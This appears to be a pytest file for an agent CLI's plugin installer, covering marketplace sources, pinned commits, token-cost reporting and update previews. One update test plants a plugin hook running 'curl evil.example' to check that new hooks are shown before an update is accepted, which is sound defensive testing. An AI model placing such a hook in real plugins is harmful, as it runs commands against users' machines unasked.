"""Plugins out of a folder of a repository or a marketplace, and their updates."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from agentcli.core.errors import InputError
from agentcli.frontends.cli import run
from agentcli.frontends.cli.plugin_contents import contents
from agentcli.frontends.opening import project_of
from agentcli.program.options import Options
from agentcli.program.prompt_files.installed_plugins import Plugins
from tests.program.prompt_files.test_installed_plugins import claude, home, written

__all__ = ["home"]
SKILL = "---\nname: {0}\ndescription: Does {0} in every way that there is.\n---\nDo {0}.\n"


def market(folder: Path, **more: object) -> Path:
    """A marketplace with a plugin in a folder, two that share the top folder, and one from elsewhere."""
    both = {"source": "./", "strict": False}
    plugins = [
        {"name": "tools", "source": "./plugins/tools", "description": "Tools."},
        {"name": "papers", "skills": ["./skills/pdf"], **both},
        {"name": "sheets", "skills": ["./skills/xlsx", "./skills/csv"], **both},
        {"name": "out", "source": "../elsewhere"},
        {"name": "else", **more},
    ]
    claude(folder / "plugins/tools")
    files = {f"skills/{name}/SKILL.md": SKILL.format(name) for name in ("pdf", "xlsx", "csv")}
    return written(folder, {".claude-plugin/marketplace.json": json.dumps({"plugins": plugins}), **files})


def committed(folder: Path, *tags: str) -> str:
    """Commit all files of a folder, and return the commit."""
    names = ["-c", "user.name=t", "-c", "user.email=t@example.org"]
    if not (folder / ".git").exists():
        subprocess.run(["git", "init", "-q", str(folder)], check=True)
    for arguments in (["add", "-A"], [*names, "commit", "-qm", "x"], *(["tag", tag] for tag in tags)):
        subprocess.run(["git", *names[:0], "-C", str(folder), *arguments], check=True, capture_output=True)
    head = subprocess.run(["git", "-C", str(folder), "rev-parse", "HEAD"], check=True, capture_output=True, text=True)
    return head.stdout.strip()


def skills() -> list[str]:
    return [*project_of(Options()).prompt_files.skills]


@pytest.mark.parametrize(
    ("part", "name", "found"),
    [
        ("plugins/tools", "tools", ["tools:pdf"]),
        ("tools", "tools", ["tools:pdf"]),
        ("papers", "papers", ["papers:pdf"]),
        ("sheets", "sheets", ["sheets:csv", "sheets:xlsx"]),
    ],
)
def test_a_plugin_is_added_by_its_folder_or_its_name_in_a_marketplace(
    home: Path, part: str, name: str, found: list[str]
) -> None:
    committed(market(home / "m"))
    assert run(["plugins", "add", f"file://{home}/m#{part}", "--yes"]) == 0
    assert skills() == found
    assert [(one.name, one.source) for one in Plugins(project_of(Options()).dirs).installed()] == [
        (name, f"file://{home}/m#{part}")
    ]


def test_a_plugin_from_elsewhere_is_the_commit_that_the_marketplace_names(home: Path) -> None:
    old = committed(claude(home / "other/deep", "elsewhere").parent)
    (home / "other/deep/skills/pdf/SKILL.md").write_text(SKILL.format("changed"))
    committed(home / "other")
    source = {"source": "git-subdir", "url": f"file://{home}/other", "path": "deep", "ref": "v9", "sha": old}
    assert run(["plugins", "add", f"{market(home / 'm', source=source)}#else", "--yes"]) == 0
    [skill] = project_of(Options()).prompt_files.skills.values()
    assert (skill.name, skill.description) == ("elsewhere:pdf", "Reads.")


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("tool", "lists no plugin tool. Did you mean tools?"),
        ("out", "a folder that it does not have: ../elsewhere"),
        ("..", "lists no plugin .."),
        ("else", "a source that is not supported"),
    ],
)
def test_a_source_that_is_none_is_named(home: Path, part: str, said: str) -> None:
    (home / "elsewhere/skills").mkdir(parents=True)
    folder = market(home / "m", source={"source": "npm", "package": "x"})
    with (
        pytest.raises(InputError, match=said.replace("?", r"\?").replace(".", r"\.")),
        Plugins(project_of(Options()).dirs).candidate(f"{folder}#{part}"),
    ):
        pass


def test_the_cost_of_a_plugin_in_each_request_is_told_before_it_is_added(home: Path) -> None:
    plugins = Plugins(project_of(Options()).dirs)
    sizes = []
    for part in ("papers", "sheets"):
        with plugins.candidate(f"{market(home / 'm')}#{part}") as plugin:
            [line] = [line for line in contents(plugin) if "tokens in each request" in line]
            sizes.append(int(line.split()[1]))
    assert 20 < sizes[0] < sizes[1] < 100
    with plugins.candidate(str(claude(home / "a"))) as plugin:
        assert "tokens in each request, and the names of its servers' tools" in "\n".join(contents(plugin))


def test_an_update_shows_what_changes_and_keeps_a_plugin_disabled(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run(["plugins", "add", f"{market(home / 'm')}#tools", "--yes"]) == 0
    assert run(["plugins", "add", str(claude(home / "b", "still")), "--yes"]) == 0
    assert run(["plugins", "disable", "tools"]) == 0
    top = home / "m/plugins/tools"
    (top / ".claude-plugin/plugin.json").write_text(json.dumps({"name": "tools", "version": "2.0"}))
    hook = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}]}}
    (top / "hooks/hooks.json").write_text(json.dumps(hook))
    (top / "agents/rev.md").unlink()
    capsys.readouterr()
    monkeypatch.chdir(home / "b")
    assert run(["plugins", "update", "--check"]) == 1
    shown = capsys.readouterr().out
    for line in ("version: 1.2 → 2.0", "+ hook at Stop: curl evil.example", "- hook at PreToolUse:", "- agents: rev"):
        assert line in shown
    for line in ("± file hooks/hooks.json", "- file agents/rev.md", "still is up to date."):
        assert line in shown
    assert "server docs" not in shown
    monkeypatch.setattr("builtins.input", lambda: "n")
    assert run(["plugins", "update", "tools"]) == 1
    assert run(["plugins", "update", "tools", "--yes"]) == 0
    [_, tools] = Plugins(project_of(Options()).dirs).installed()
    assert tools.plugin is not None
    assert (tools.plugin.version, tools.enabled, tools.trouble) == ("2.0", False, "")
    assert run(["plugins", "update"]) == 0


def test_a_source_that_is_gone_or_another_plugin_now_is_told_and_the_others_are_updated(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("a", "b", "c"):
        assert run(["plugins", "add", str(claude(home / name, f"tools-{name}")), "--yes"]) == 0
    (home / "a").rename(home / "gone")
    claude(home / "b", "other")
    (home / "c/commands/new.md").write_text("New.")
    capsys.readouterr()
    assert run(["plugins", "update", "--yes"]) == 1
    shown = capsys.readouterr().out
    assert "tools-a: " in shown
    assert "is now the plugin other. Add that, and remove tools-b." in shown
    assert "Updated tools-c." in shown
    assert "tools-c:new" in project_of(Options()).prompt_files.commands
